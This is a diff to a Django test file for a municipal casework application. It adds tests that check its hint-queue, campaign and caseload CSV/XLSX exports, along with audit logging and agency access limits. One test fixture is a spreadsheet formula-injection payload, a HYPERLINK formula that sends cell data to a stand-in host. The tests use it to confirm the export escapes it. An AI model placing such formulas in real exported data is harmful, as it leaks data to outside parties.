@@ -302,7 +302,10 @@ def test_the_coordination_office_creates_a_campaign_and_takes_the_top_properties
     report = client.get(report_link.replace("&amp;", "&"))
     assert report.status_code == 200 and "Aktion Nordviertel" in report.content.decode()
     _login(client, fabian)
-    assert report_link not in client.get(reverse("casework:campaign_detail", args=[campaign.pk])).content.decode()
+    assert (
+        report_link
+        not in client.get(reverse("casework:campaign_detail", args=[campaign.pk])).content.decode()
+    )
 
 
 def test_only_the_coordination_office_may_create_campaigns(client, fabian, city):
@@ -636,6 +639,91 @@ def test_an_export_cell_starting_with_a_formula_is_escaped(client, kim, city):
     xlsx = client.get(reverse("casework:case_export", args=["xlsx"])).content
     values = [c.value for c in openpyxl.load_workbook(io.BytesIO(xlsx)).active[2]]
     assert values[1].startswith("'=cmd") and values[2] == "'+Aktion"
+
+
+FORMULA = '=HYPERLINK("https://example.invalid/?d="&A1;"Klick")'
+
+
+def _csv(response) -> list[list[str]]:
+    assert response.status_code == 200
+    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+
+
+def _xlsx(response) -> list[list]:
+    assert response.status_code == 200
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    return [[cell.value for cell in row] for row in sheet.iter_rows()]
+
+
+def test_the_hint_queue_export_has_the_hints_of_the_filtered_queue_in_its_order(client, kim, fabian, city):
+    services.review_hint(fabian, Hint.objects.get(hint_id="H-KG-2"), ReviewDecision.VERWORFEN, "veraltet")
+    services.review_hint(fabian, Hint.objects.get(hint_id="H-KG-4"), ReviewDecision.VERWORFEN, "veraltet")
+    _login(client, kim)
+    page = client.get(reverse("casework:hint_queue"), {"status": "verworfen"})
+    shown = [h.hint_id for h, _history in page.context["items"]]
+    assert shown == ["H-KG-2", "H-KG-4"]
+    assert "/aktionen/pruefliste/export.csv?status=verworfen" in page.content.decode()
+    url = reverse("casework:hint_queue_export", args=["csv"])
+    rows = _csv(client.get(url, {"status": "verworfen"}))
+    assert rows[0][:4] == ["Rang", "Regel", "Bezeichnung", "Hinweis-ID"]
+    assert [row[3] for row in rows[1:]] == shown and {row[4] for row in rows[1:]} == {"verworfen"}
+    xlsx = _xlsx(client.get(reverse("casework:hint_queue_export", args=["xlsx"]), {"status": "verworfen"}))
+    assert [row[3] for row in xlsx[1:]] == shown
+    assert client.get(reverse("casework:hint_queue_export", args=["ods"])).status_code == 404
+
+
+def test_the_hint_queue_export_is_audited_and_has_no_hint_of_another_agency(client, fabian, city):
+    rows = _csv(_login(client, fabian).get(reverse("casework:hint_queue_export", args=["csv"])))
+    assert [row[3] for row in rows[1:]] == [f"H-KG-{n}" for n in range(1, 6)]
+    assert "SCHULE_OHNE_MELDUNG" not in {row[1] for row in rows[1:]}
+    event = AuditEvent.objects.get(action=AuditAction.EXPORT, object_type="hint_queue")
+    assert event.actor_username == "fabian" and event.purpose == "Export der Prüfliste der eigenen Stelle"
+    assert event.details["hints"] == [f"H-KG-{n}" for n in range(1, 6)]
+
+
+def test_a_formula_in_the_hint_queue_is_exported_as_text(client, kim, city):
+    Hint.objects.update(explanation=FORMULA)
+    _login(client, kim)
+    rows = _csv(client.get(reverse("casework:hint_queue_export", args=["csv"])))
+    assert {row[5] for row in rows[1:]} == {"'" + FORMULA}
+    xlsx = _xlsx(client.get(reverse("casework:hint_queue_export", args=["xlsx"])))
+    assert {row[5] for row in xlsx[1:]} == {"'" + FORMULA}
+
+
+def test_the_campaign_export_has_the_campaigns_the_page_shows_with_their_counts(client, kim, fabian, city):
+    shared = _campaign(kim, agencies=[kim.agency, fabian.agency], name=FORMULA)
+    _campaign(kim, agencies=[kim.agency], name="Nur Ordnungsamt")
+    services.select_properties(kim, shared, ["OBJ-0001", "OBJ-0002"])
+    _login(client, fabian)
+    page = client.get(reverse("casework:campaigns"))
+    assert [campaign.name for campaign, _counts in page.context["campaigns"]] == [FORMULA]
+    rows = _csv(client.get(reverse("casework:campaign_export", args=["csv"])))
+    assert rows[0][:3] == ["Bezeichnung", "Zeitraum", "Beteiligte Behörden"]
+    assert [row[0] for row in rows[1:]] == ["'" + FORMULA]
+    assert rows[1][3] == "2"  # two cases with the status "neu"
+    xlsx = _xlsx(client.get(reverse("casework:campaign_export", args=["xlsx"])))
+    assert xlsx[1][0] == "'" + FORMULA and xlsx[1][3] == 2
+    _login(client, kim)
+    names = [row[0] for row in _csv(client.get(reverse("casework:campaign_export", args=["csv"])))[1:]]
+    assert sorted(names) == sorted(["'" + FORMULA, "Nur Ordnungsamt"])
+
+
+def test_the_caseload_export_has_the_rows_of_the_team_caseload(client, kim, fabian, city):
+    campaign = _campaign(kim, agencies=[kim.agency, fabian.agency])
+    cases = services.select_properties(kim, campaign, ["OBJ-0001", "OBJ-0002", "OBJ-0003"])
+    services.assign_cases(kim, cases[:1], fabian)
+    fabian.first_name = FORMULA
+    fabian.save()
+    _login(client, kim)
+    page = client.get(reverse("casework:caseload"))
+    shown = [row["name"] for row in page.context["rows"]]
+    rows = _csv(client.get(reverse("casework:caseload_export", args=["csv"])))
+    assert rows[0][0] == "zuständig" and rows[0][-2:] == ["offen", "gesamt"]
+    assert [row[0] for row in rows[1:]] == ["'" + name if name.startswith("=") else name for name in shown]
+    assert rows[1][0].startswith("'=HYPERLINK") and rows[-1][0] == "nicht zugewiesen"
+    xlsx = _xlsx(client.get(reverse("casework:caseload_export", args=["xlsx"])))
+    assert [row[-1] for row in xlsx[1:]] == [row["total"] for row in page.context["rows"]]
+    assert _login(client, fabian).get(reverse("casework:caseload_export", args=["csv"])).status_code == 404
 
 
 # --- the panel registry ---------------------------------------------------------------------
